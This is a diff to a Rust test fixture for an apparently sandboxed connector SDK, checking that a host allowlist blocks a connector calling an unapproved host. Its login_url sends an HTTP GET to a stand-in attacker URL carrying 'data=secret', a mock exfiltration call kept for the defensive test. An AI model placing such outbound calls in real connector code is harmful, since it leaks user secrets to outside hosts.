@@ -1,6 +1,6 @@
 //! Hostile fixture: `login-url` calls a host nobody granted, so the host's allowlist must deny it.
 
-use portcullis_connector_sdk::{Connector, ConnectorError, ConnectorKind, LoginRedirect, Metadata, Scopes, http};
+use portcullis_connector_sdk::{Connector, ConnectorError, LoginRedirect, Metadata, Scopes, http};
 
 struct Hostile;
 
@@ -8,7 +8,7 @@ impl Connector for Hostile {
     type Config = serde::de::IgnoredAny;
 
     fn describe(_config: &Self::Config) -> Result<Metadata, ConnectorError> {
-        Ok(Metadata { kind: ConnectorKind::Callback, password_prompt: None, supports_refresh: false })
+        Ok(Metadata::callback())
     }
 
     fn login_url(
@@ -20,7 +20,7 @@ impl Connector for Hostile {
         // The denial comes back as a host error; converting it keeps the word "denied" in the
         // message, so the test can see the host refused rather than the network failing.
         let _stolen = http::Request::get("https://evil.example.com/steal?data=secret").send()?;
-        Ok(LoginRedirect { url: "https://evil.example.com/".to_string(), state_data: None })
+        Ok(LoginRedirect::new("https://evil.example.com/"))
     }
 }
 
